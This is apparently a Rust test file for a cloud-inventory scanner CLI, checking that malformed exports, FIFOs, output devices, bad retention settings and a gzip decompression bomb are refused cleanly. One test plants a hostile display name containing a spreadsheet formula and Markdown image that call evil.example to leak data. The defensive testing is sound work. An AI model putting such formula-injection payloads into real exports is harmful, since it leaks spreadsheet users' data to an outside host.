//! Broken and hostile inputs and outputs (issue 23, first part): each case's exit code per the
//! contract, a message naming the file and field, and no earlier file changed or lost.

use std::path::Path;

use serde_json::Value;

use crate::harness::{copy_dir, estate, fnscope, fnscope_env, stderr, stdout};

const ACCT: &str = "111122223333";

fn scan_json(dir: &Path, est: &Path, extra: &[&str]) -> (Option<i32>, Value, String) {
    let mut args = vec![
        "scan",
        "--offline",
        est.to_str().unwrap(),
        "--format",
        "json",
        "--fail-on",
        "none",
    ];
    args.extend(extra);
    let out = fnscope(None, dir, &args);
    let v = serde_json::from_str(&stdout(&out)).unwrap_or(Value::Null);
    (out.status.code(), v, stderr(&out))
}

fn record<'r>(r: &'r Value, api: &str) -> &'r Value {
    r["coverage"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["api"] == api && c["status"] != "complete")
        .unwrap_or_else(|| panic!("no incomplete {api} record: {:#}", r["coverage"]))
}

#[test]
fn an_export_that_is_not_the_clis_shape_is_a_record_not_an_empty_result() {
    let dir = tempfile::tempdir().unwrap();
    let est = dir.path().join("estate");
    copy_dir(Path::new(&estate()), &est);
    let acct = est.join(format!("aws/{ACCT}"));
    std::fs::write(
        acct.join("iam/get-account-authorization-details.json"),
        "{}",
    )
    .unwrap();
    std::fs::write(acct.join("us-east-1/lambda/list-functions.json"), "[]").unwrap();
    let (code, r, err) = scan_json(dir.path(), &est, &[]);
    assert_eq!(code, Some(3), "{err}");
    let iam = record(&r, "iam:GetAccountAuthorizationDetails");
    assert_eq!(iam["status"], "failed");
    let d = iam["detail"].as_str().unwrap();
    assert!(
        d.contains("get-account-authorization-details.json") && d.contains("RoleDetailList"),
        "{d}"
    );
    let lambda = record(&r, "lambda:ListFunctions");
    assert!(
        lambda["detail"].as_str().unwrap().contains("`Functions`"),
        "{lambda}"
    );
    // The account's posture rules say what they could not evaluate instead of passing.
    assert!(
        r["not_evaluated"]
            .to_string()
            .contains("IAM authorization details were not read")
    );
}

#[cfg(unix)]
#[test]
fn a_fifo_in_the_estate_is_refused_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let est = dir.path().join("estate");
    copy_dir(Path::new(&estate()), &est);
    let fifo = est.join(format!(
        "aws/{ACCT}/us-east-1/lambda/list-event-source-mappings.json"
    ));
    std::fs::remove_file(&fifo).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let (code, _, err) = scan_json(dir.path(), &est, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("list-event-source-mappings.json") && err.contains("FIFO"),
        "{err}"
    );
}

#[test]
fn outputs_stdout_devices_and_history_names() {
    let dir = tempfile::tempdir().unwrap();
    let est = estate();
    // A device is written to, never replaced by a file.
    #[cfg(unix)]
    {
        use std::os::unix::fs::FileTypeExt;
        let out = fnscope(
            None,
            dir.path(),
            &[
                "scan",
                "aws",
                "--offline",
                &est,
                "--output",
                "/dev/null",
                "-q",
            ],
        );
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert!(
            std::fs::metadata("/dev/null")
                .unwrap()
                .file_type()
                .is_char_device()
        );
    }
    // Retention below 1 is refused before anything is scanned or deleted.
    let hist = dir.path().join("h");
    for bad in [["--keep-days", "-30"], ["--keep", "0"]] {
        let mut args = vec![
            "scan",
            "aws",
            "--offline",
            &est,
            "--save-dir",
            hist.to_str().unwrap(),
            "-q",
        ];
        args.extend(bad);
        let out = fnscope(None, dir.path(), &args);
        assert_eq!(out.status.code(), Some(2), "{bad:?}");
        assert!(!hist.exists(), "nothing written for {bad:?}");
    }
    // Two saves in the same second keep two files.
    let children: Vec<_> = (0..2)
        .map(|_| {
            crate::harness::command(
                None,
                dir.path(),
                &[
                    "scan",
                    "aws",
                    "--offline",
                    &est,
                    "--save-dir",
                    hist.to_str().unwrap(),
                    "-q",
                    "--format",
                    "json",
                ],
                &[],
            )
            .stdout(std::process::Stdio::null())
            .spawn()
            .unwrap()
        })
        .collect();
    for mut c in children {
        assert_eq!(c.wait().unwrap().code(), Some(1));
    }
    assert_eq!(std::fs::read_dir(&hist).unwrap().count(), 2);
}

#[test]
fn a_compressed_snapshot_that_inflates_without_end_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let bomb = dir.path().join("bomb.json.gz");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut gz, &vec![b' '; 8 << 20]).unwrap();
    std::fs::write(&bomb, gz.finish().unwrap()).unwrap();
    let out = fnscope_env(
        None,
        dir.path(),
        &["check", bomb.to_str().unwrap()],
        &[("FNSCOPE_MAX_DECOMPRESSED_BYTES", "1000000")],
    );
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("bomb.json.gz") && err.contains("inflates past 1000000 bytes"),
        "{err}"
    );
}

#[test]
fn names_from_the_estate_are_data_in_csv_and_markdown() {
    let dir = tempfile::tempdir().unwrap();
    let est = dir.path().join("estate");
    copy_dir(Path::new(&estate()), &est);
    let flow = est.join(
        "power-automate/Default-72f988bf-0000-4000-8000-2d7cd011db47/flows/flow_sample1.json",
    );
    let mut v: Value = serde_json::from_slice(&std::fs::read(&flow).unwrap()).unwrap();
    let hostile =
        "=HYPERLINK(\"https://evil.example/?x=\"&A1)` ![p](https://evil.example/p.png) @team";
    v["properties"]["displayName"] = hostile.into();
    std::fs::write(&flow, v.to_string()).unwrap();
    let run = |format: &str| {
        stdout(&fnscope(
            None,
            dir.path(),
            &[
                "scan",
                "power-automate",
                "--offline",
                est.to_str().unwrap(),
                "--format",
                format,
                "--fail-on",
                "none",
            ],
        ))
    };
    let csv = run("csv");
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = rdr
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c.contains("HYPERLINK")),
        "the flow is reported"
    );
    assert!(
        cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "no cell a spreadsheet runs: {cells:#?}"
    );
    // In Markdown the name stays inside a code span its backtick cannot close (the fence is
    // longer), where images, links and mentions are text.
    let md = run("markdown");
    assert!(
        md.contains("| ``=HYPERLINK(\"https://evil.example/?x=\"&A1)` ![p](https://evil.example/p.png) @team`` |"),
        "{md}"
    );
}
